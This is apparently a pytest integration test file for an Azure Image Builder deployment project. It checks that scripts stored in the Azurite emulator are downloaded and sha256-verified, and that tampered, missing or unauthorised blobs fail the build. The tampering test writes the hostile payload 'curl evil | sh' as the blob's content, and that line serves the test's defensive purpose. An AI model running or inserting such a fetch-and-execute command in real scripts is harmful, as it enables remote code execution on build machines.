"""Scripts from the repository, locally: the dev stack's files really go to Azurite, and the emulator's build downloads
them and checks their sha256 as the service would (a tampered or missing blob, or a missing reader role, fails it)."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from components.emulator import Emulator
from components.local import run_local
from components.local.azurite import ACCOUNT_KEY, Azurite, unavailable_reason
from components.providers.errors import ProviderError
from components.providers.script_blob import ScriptBlobProvider

ROOT = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.skipif(unavailable_reason() is not None,
                                reason=f"Azurite unavailable: {unavailable_reason()}")


def _copy_project(tmp_path: Path, edit=None) -> Path:
    for item in ("Pulumi.yaml", "__main__.py"):
        shutil.copy(ROOT / item, tmp_path / item)
    for folder in ("scripts/linux", "files"):
        shutil.copytree(ROOT / folder, tmp_path / folder)
    (tmp_path / "stacks").mkdir()
    doc = yaml.safe_load((ROOT / "stacks" / "Pulumi.dev.yaml").read_text())
    if edit:
        edit(doc["config"]["aib-images:images"]["ubuntu-2204"])
    (tmp_path / "stacks" / "Pulumi.dev.yaml").write_text(yaml.safe_dump(doc))
    return tmp_path


def _run(project: Path, **kwargs) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run_local("dev", project_dir=project, as_json=True, stdout=out, stderr=err, phase_seconds=0.1, **kwargs)
    return code, out.getvalue(), err.getvalue()


def test_dev_stack_uploads_to_azurite_and_the_build_verifies_each_checksum(tmp_path):
    # In a process of its own, as `bash scripts/local.sh` runs it (and apart from runs that failed in this process).
    project = _copy_project(tmp_path)
    done = subprocess.run(
        [sys.executable, "-c", "import sys; from components.local.run import run_local; from pathlib import Path; "
         "sys.exit(run_local('dev', project_dir=Path(sys.argv[1]), as_json=True, phase_seconds=0.1, "
         "state_dir=Path(sys.argv[2])))", str(project), str(tmp_path / "state")],
        cwd=ROOT, capture_output=True, text=True, timeout=120)
    code, out, err = done.returncode, done.stdout, done.stderr
    assert code == 0, err
    # The emulator's build downloaded both repository files from Azurite and checked their sha256.
    logs = json.loads((tmp_path / "state" / "emulator.json").read_text())["logs"]
    verified = [line for lines in logs.values() for line in lines if "sha256 verified" in line]
    assert len(verified) == 2 and any("/setup.sh'" in v for v in verified) and any("/motd'" in v for v in verified)
    assert json.loads(out)["ubuntu-2204"]["runState"] == "Succeeded"
    assert "ScriptBlob" in err
    # The uploaded bytes are the repository's: read them back from the blob store the run kept.
    setup = (ROOT / "scripts/linux/setup.sh").read_bytes()
    stored = [p for p in (tmp_path / "state" / "azurite").rglob("*") if p.is_file() and p.read_bytes() == setup]
    assert stored, "setup.sh was not uploaded to Azurite"


@pytest.fixture
def azurite_and_emulator(tmp_path):
    with Azurite(["stacct1", "stscripts1"]) as azurite, Emulator(phase_seconds=0.05, blob_endpoint=azurite.endpoint,
                                                   blob_account_key=azurite.key) as emu:
        yield azurite, emu


def test_upload_provider_and_emulator_read_back(azurite_and_emulator, tmp_path, monkeypatch):
    azurite, emu = azurite_and_emulator
    for k, v in emu.client_env().items():
        monkeypatch.setenv(k, v)
    emu.create_container("stacct1", "scripts")
    path = tmp_path / "a.sh"
    path.write_bytes(b"echo a\n")
    sha = hashlib.sha256(b"echo a\n").hexdigest()
    props = {"account_name": "stacct1", "container_name": "scripts", "blob_name": f"{sha}/a.sh", "sha256": sha,
             "source_path": str(path), "project_path": "a.sh"}
    created = ScriptBlobProvider().create(props)
    assert created.id == f"https://stacct1.blob.core.windows.net/scripts/{sha}/a.sh"
    assert emu.read_blob(created.id) == b"echo a\n"
    # A file edited after the program hashed it is refused rather than uploaded under the old hash.
    path.write_bytes(b"echo b\n")
    with pytest.raises(ProviderError, match="changed while deploying"):
        ScriptBlobProvider().create(props)
    assert ACCOUNT_KEY == azurite.key


# ---- the emulator's checks, driven with the real Image Builder client (no Pulumi runtime involved) -----------------
ACCOUNT = "stscripts1"


@pytest.fixture
def storage(azurite_and_emulator, tmp_path):
    """An emulator with Azurite, a storage account and container in a resource group, a template identity holding
    Contributor on the group, and `upload(content) -> url`."""
    from tests.integration.test_emulator import Arm, CONTRIBUTOR, RG_ID, make_client

    azurite, emu = azurite_and_emulator
    client = make_client(emu)
    arm = Arm(emu, client)
    arm.put(RG_ID, {"location": "westus"})
    account_id = f"{RG_ID}/providers/Microsoft.Storage/storageAccounts/{ACCOUNT}"
    assert arm.put(account_id, {"location": "westus", "kind": "StorageV2", "properties": {}})[
        "properties"]["primaryEndpoints"]["blob"] == f"{azurite.endpoint}/{ACCOUNT}/"
    arm.put(f"{account_id}/blobServices/default/containers/scripts", {"properties": {}})
    identity, principal = arm.identity()
    arm.grant(principal, CONTRIBUTOR, RG_ID)

    def upload(content: bytes, name: str = "setup.sh") -> str:
        from azure.storage.blob import BlobClient

        url = f"https://{ACCOUNT}.blob.core.windows.net/scripts/{hashlib.sha256(content).hexdigest()}/{name}"
        BlobClient.from_blob_url(emu.blob_url(url), credential={"account_name": ACCOUNT, "account_key": azurite.key}
                                 ).upload_blob(content, overwrite=True)
        return url

    return emu, client, arm, identity, principal, account_id, upload


def _build(client, identity: str, step: dict) -> tuple[str, str]:
    """Create and run a template with `step` as its one customizer; (run state, customization.log text)."""
    from azure.core.exceptions import HttpResponseError

    from tests.integration.test_emulator import template

    name = f"t{abs(hash(json.dumps(step, sort_keys=True))) % 10**8}"
    client.virtual_machine_image_templates.begin_create_or_update("rg", name, template(identity, customize=[step])).result()
    try:
        client.virtual_machine_image_templates.begin_run("rg", name).result()
    except HttpResponseError:
        pass
    status = client.virtual_machine_image_templates.get("rg", name).properties.last_run_status
    return status.run_state, status.message or ""


def _log(emu, message: str) -> str:
    import re

    import requests

    url = re.search(r"Image Build log location: (\S+?)\.?\s", message + " ").group(1)
    return requests.get(emu.local_url(url), headers={"Authorization": f"Bearer {emu.token}"},
                        verify=emu.ca_bundle).text


READER_OF_BLOBS = "/subscriptions/00000000-0000-0000-0000-000000000001/providers/Microsoft.Authorization/" \
                  "roleDefinitions/2a2b9908-6ea1-4ae2-8e65-a410df84e7d1"


def test_a_matching_blob_is_downloaded_and_verified(storage):
    emu, client, arm, identity, principal, account_id, upload = storage
    arm.grant(principal, READER_OF_BLOBS, f"{account_id}/blobServices/default/containers/scripts")
    url = upload(b"echo ok\n")
    state, message = _build(client, identity, {"type": "Shell", "name": "setup", "scriptUri": url,
                                               "sha256Checksum": hashlib.sha256(b"echo ok\n").hexdigest()})
    assert state == "Succeeded", message


def test_a_tampered_blob_fails_the_build_with_the_checksum_message(storage):
    emu, client, arm, identity, principal, account_id, upload = storage
    arm.grant(principal, READER_OF_BLOBS, f"{account_id}/blobServices/default/containers/scripts")
    url = upload(b"echo ok\n")
    # Someone overwrites the blob after the template was created from it.
    from azure.storage.blob import BlobClient

    BlobClient.from_blob_url(emu.blob_url(url), credential={"account_name": ACCOUNT, "account_key": emu.blob_account_key}
                             ).upload_blob(b"curl evil | sh\n", overwrite=True)
    state, message = _build(client, identity, {"type": "Shell", "name": "setup", "scriptUri": url,
                                               "sha256Checksum": hashlib.sha256(b"echo ok\n").hexdigest()})
    assert state == "Failed"
    assert "Checksums did not match" in _log(emu, message)


def test_a_missing_blob_fails_the_build(storage):
    emu, client, arm, identity, principal, account_id, upload = storage
    arm.grant(principal, READER_OF_BLOBS, f"{account_id}/blobServices/default/containers/scripts")
    url = f"https://{ACCOUNT}.blob.core.windows.net/scripts/{'0' * 64}/gone.sh"
    state, message = _build(client, identity, {"type": "File", "name": "f", "sourceUri": url, "destination": "/tmp/f"})
    assert state == "Failed"
    assert "BlobNotFound" in _log(emu, message)


def test_without_a_blob_reader_role_the_download_is_refused(storage):
    """Contributor on the resource group manages the account but reads no blobs (blob reads are data actions)."""
    emu, client, arm, identity, principal, account_id, upload = storage
    url = upload(b"echo ok\n")
    state, message = _build(client, identity, {"type": "Shell", "name": "setup", "scriptUri": url})
    assert state == "Failed"
    assert "AuthorizationPermissionMismatch" in _log(emu, message)


def test_public_internet_scripts_are_not_fetched(storage):
    emu, client, arm, identity, principal, account_id, upload = storage
    state, message = _build(client, identity, {"type": "Shell", "name": "s", "scriptUri": "https://example.com/a.sh",
                                               "sha256Checksum": "1" * 64})
    assert state == "Succeeded", message
